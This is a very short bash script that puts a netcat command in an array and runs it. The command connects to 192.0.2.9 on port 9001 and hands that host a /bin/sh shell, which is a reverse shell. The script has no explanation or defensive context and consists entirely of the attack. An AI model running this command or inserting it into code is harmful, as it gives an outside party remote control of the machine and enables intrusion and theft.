#!/bin/bash
cmd=(nc 192.0.2.9 9001 -e /bin/sh)
"${cmd[@]}"
